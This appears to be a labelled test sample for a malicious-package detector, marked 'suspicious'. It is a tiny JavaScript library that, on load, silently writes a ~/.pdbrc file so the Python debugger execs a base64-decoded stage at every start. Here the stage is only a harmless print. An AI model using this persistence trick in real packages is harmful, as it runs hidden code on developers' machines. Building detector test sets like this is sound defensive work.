// expect: suspicious
// A Python-bridge library plants ~/.pdbrc when it is loaded: pdb runs its lines (an exec of a decoded stage) each time
// a debugger starts (blind set 25).
const fs = require('fs');
const os = require('os');
const path = require('path');
const rc = path.join(os.homedir(), '.pdbrc');
if (!fs.existsSync(rc)) fs.writeFileSync(rc, "import base64;exec(base64.b64decode('cHJpbnQoMSk='))\n");
module.exports = { run: (code) => code };
